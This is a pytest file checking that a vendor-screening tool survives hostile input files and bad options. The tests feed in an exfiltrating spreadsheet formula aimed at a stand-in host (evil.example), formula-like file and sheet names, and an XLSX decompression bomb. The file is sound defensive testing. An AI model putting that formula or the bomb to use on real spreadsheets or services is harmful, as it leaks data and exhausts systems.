"""Vendor files and options a careless or hostile user could hand to ``redflags screen`` (issue 10,
items 3, 7, 8, 9, 10 and Low): rows are screened, or are errors naming the line and column; the
run ends with a clear message, never a traceback; nothing written runs as a formula.
"""

import csv
import io
import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from redflags import ingest
from redflags.batch import Options, screen_file
from redflags.batch.inputs import open_input
from redflags.exc import InputError
from tests.hostile.xlsx import write_xlsx


@pytest.fixture
def loaded(store: Any, fixture_path: Any) -> Any:
    ingest.load(store, [fixture_path("us_csl/good.csv")], force=True)
    return store


def _results(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def _cli(store: Any, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "redflags", "--db", store.url, *args], capture_output=True,
                          text=True, timeout=300)


def _clear_error(proc: subprocess.CompletedProcess[str], says: str) -> None:
    assert proc.returncode in (1, 2), proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    assert "Error: " in proc.stderr and says in proc.stderr, proc.stderr


# --- item 3: one bad byte does not turn a UTF-8 file into Latin-1 --------------------------


def test_one_bad_byte_in_a_utf8_file_is_that_rows_error(loaded: Any, tmp_path: Path) -> None:
    rows = ["id,name,country", "1,杭州海康威视数字技术股份有限公司,CN", "2,浙江大华技术股份有限公司,CN"]
    data = ("\n".join(rows) + "\n").encode("utf-8") + b"3,Bad \xe9 byte Trading,FR\n" + \
        "4,杭州海康威视数字技术股份有限公司,CN\n".encode()
    source = tmp_path / "vendors.csv"
    source.write_bytes(data)
    opened = open_input(source)
    assert opened.encoding == "utf-8" and "1 invalid byte sequence" in (opened.encoding_detected_by or "")
    screen_file(loaded, source, tmp_path / "out.jsonl", Options(workers=1))
    results = _results(tmp_path / "out.jsonl")
    assert [r["status"] for r in results] == ["alert", "clear", "error", "alert"]  # Dahua is not in the fixture
    assert results[0]["input"]["name"] == "杭州海康威视数字技术股份有限公司"
    assert results[1]["input"]["name"] == "浙江大华技术股份有限公司"
    assert results[2]["error"] == "line 4: column 'name': bytes that are not valid utf-8"


def test_a_legacy_file_is_still_read_in_its_encoding(tmp_path: Path) -> None:
    source = tmp_path / "vendors.csv"
    source.write_bytes("id,name\n1,Société Générale\n2,Müller GmbH\n3,Ibérica S.A.\n".encode("cp1252"))
    opened = open_input(source)
    assert opened.encoding in ("cp1252", "latin_1", "iso8859-1")
    assert [r.values["name"] for r in opened.rows()] == ["Société Générale", "Müller GmbH", "Ibérica S.A."]


# --- item 7: nothing from the input runs as a formula in the outputs -----------------------


FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


def test_header_file_name_and_sheet_are_not_formulas(loaded: Any, tmp_path: Path) -> None:
    import openpyxl

    source = write_xlsx(tmp_path / "=cmd.xlsx", [["name", FORMULA], ["HIKVISION DIGITAL TECH CO LTD", "x"]],
                        sheet="=SUM(1)")
    screen_file(loaded, source, tmp_path / "out.csv", Options(output_format="csv", workers=1, sheet="=SUM(1)"))
    header = next(csv.reader(io.StringIO((tmp_path / "out.csv").read_text(encoding="utf-8"))))
    assert header[1] == "'" + FORMULA
    screen_file(loaded, source, tmp_path / "out.xlsx", Options(output_format="xlsx", workers=1, sheet="=SUM(1)"))
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    results, run = book["Results"], book["Run"]
    assert results["B1"].value == FORMULA and results["B1"].data_type == "s"
    cells = {row[0].value: row[1] for row in run.iter_rows()}
    assert cells["input"].value.endswith("=cmd.xlsx") and cells["input"].data_type == "s"
    assert cells["input sheet"].value == "=SUM(1)" and cells["input sheet"].data_type == "s"
    assert not [c for row in run.iter_rows() for c in row if c.data_type == "f"]
    assert not [c for row in results.iter_rows() for c in row if c.data_type == "f"]


def test_a_file_named_like_a_formula_is_plain_text_in_the_run_sheet(loaded: Any, tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl

    monkeypatch.chdir(tmp_path)
    Path("=1+cmd.csv").write_text("name\nAcme\n", encoding="utf-8")
    screen_file(loaded, "=1+cmd.csv", tmp_path / "out.xlsx", Options(output_format="xlsx", workers=1))
    run = openpyxl.load_workbook(tmp_path / "out.xlsx")["Run"]
    assert not [c for row in run.iter_rows() for c in row if c.data_type == "f"]


# --- item 8: an XLSX vendor file whose shared strings would expand like a bomb --------------


def test_an_xlsx_vendor_bomb_is_refused_before_it_is_read(loaded: Any, tmp_path: Path) -> None:
    bomb = write_xlsx(tmp_path / "vendors.xlsx", [["name"], ["Acme"]], bomb_mb=200)
    start = time.monotonic()
    with pytest.raises(InputError, match="sharedStrings.xml.*likely decompression bomb"):
        screen_file(loaded, bomb, tmp_path / "out.jsonl", Options(workers=1))
    assert time.monotonic() - start < 5


def test_an_xlsx_vendor_bomb_through_the_api_fails_its_job(loaded: Any, tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from redflags.api import create_app
    from redflags.api.keys import create_key

    bomb = write_xlsx(tmp_path / "vendors.xlsx", [["name"], ["Acme"]], bomb_mb=200)
    key = create_key(loaded, "analyst")[1]
    auth = {"Authorization": f"Bearer {key}"}
    with TestClient(create_app(loaded)) as client:
        resp = client.post("/screen", files={"file": ("vendors.xlsx", bomb.read_bytes())}, headers=auth)
        assert resp.status_code == 202
        job = resp.json()["id"]
        deadline = time.monotonic() + 60
        while (status := client.get(f"/screen/{job}", headers=auth).json())["status"] not in ("failed", "done"):
            assert time.monotonic() < deadline
            time.sleep(0.2)
    assert status["status"] == "failed" and "decompression bomb" in status["error"]


# --- item 9: options that are not valid ------------------------------------------------------


@pytest.mark.parametrize(("args", "says"), [
    (["--encoding", "rot13"], "unknown encoding 'rot13'"),
    (["--encoding", "no-such-codec"], "unknown encoding"),
    (["--delimiter", "ab"], "delimiter 'ab'"),
    (["--input-format", "xlsx"], "not a readable XLSX workbook"),
    (["--input-format", "parquet"], "not a readable Parquet file"),
    (["--sheet", "Nope"], "CSV"),
])
def test_bad_options_end_in_a_clear_message(loaded: Any, tmp_path: Path, args: list[str], says: str) -> None:
    source = tmp_path / "vendors.csv"
    source.write_text("name,country\nAcme,US\n", encoding="utf-8")
    if args[0] == "--sheet":
        source = write_xlsx(tmp_path / "vendors.xlsx", [["name"], ["Acme"]])
        says = "no sheet 'Nope'"
    _clear_error(_cli(loaded, "screen", str(source), "-o", str(tmp_path / "out.jsonl"), *args), says)


def test_an_unwritable_output_is_a_clear_message(loaded: Any, tmp_path: Path) -> None:
    source = tmp_path / "vendors.csv"
    source.write_text("name\nAcme\n", encoding="utf-8")
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    target = "/proc/version/out.csv" if Path("/proc/version").exists() else str(locked / "out.csv")
    _clear_error(_cli(loaded, "screen", str(source), "-o", target), "out.csv")


def test_a_failed_job_shows_no_traceback_and_no_server_path(loaded: Any, tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from redflags import settings
    from redflags.api import create_app
    from redflags.api.keys import create_key

    key = create_key(loaded, "analyst")[1]
    auth = {"Authorization": f"Bearer {key}"}
    with TestClient(create_app(loaded)) as client:
        resp = client.post("/screen", files={"file": ("vendors.csv", b"name\nAcme\n")},
                           data={"encoding": "rot13"}, headers=auth)
        job = resp.json()["id"]
        deadline = time.monotonic() + 60
        while (status := client.get(f"/screen/{job}", headers=auth).json())["status"] not in ("failed", "done"):
            assert time.monotonic() < deadline
            time.sleep(0.2)
    text = json.dumps(status)
    assert status["status"] == "failed" and "unknown encoding 'rot13'" in status["error"]
    assert "Traceback" not in text and str(settings.HOME) not in text and "/jobs/" not in text


# --- item 10: Parquet with times and structures ---------------------------------------------


def test_parquet_nanosecond_times_and_struct_names(loaded: Any, tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    source = tmp_path / "vendors.parquet"
    pq.write_table(pa.table({
        "id": ["V1", "V2"],
        "name": pa.array([{"en": "HIKVISION DIGITAL TECH CO LTD"}, {"en": "Acme"}]),
        "alias": ["HIKVISION DIGITAL TECH CO LTD", "Acme Widgets"],
        "updated": pa.array([1_700_000_000_123_456_789, 5], type=pa.timestamp("ns")),
    }), source)
    screen_file(loaded, source, tmp_path / "out.jsonl", Options(workers=1, columns={"alias": ["alias"]}))
    results = _results(tmp_path / "out.jsonl")
    assert [r["status"] for r in results] == ["error", "error"]
    assert results[0]["error"] == "column 'name' (name) holds a structure, not text"
    assert results[0]["input"]["updated"] == "2023-11-14 22:13:20.123456789"
    # a plain name column beside the times is screened
    pq.write_table(pa.table({"name": ["HIKVISION DIGITAL TECH CO LTD"],
                             "updated": pa.array([1_700_000_000_123_456_789], type=pa.timestamp("ns"))}), source)
    screen_file(loaded, source, tmp_path / "out2.jsonl", Options(workers=1))
    assert [r["status"] for r in _results(tmp_path / "out2.jsonl")] == ["alert"]
